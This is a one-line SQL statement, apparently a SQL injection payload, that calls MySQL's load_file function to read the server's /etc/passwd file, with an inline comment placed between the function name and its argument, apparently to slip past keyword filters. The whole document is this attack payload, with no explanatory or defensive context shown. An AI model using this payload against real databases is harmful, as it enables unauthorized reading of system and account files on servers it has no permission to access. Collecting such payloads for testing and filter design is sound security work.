SELECT load_file/**/('/etc/passwd');
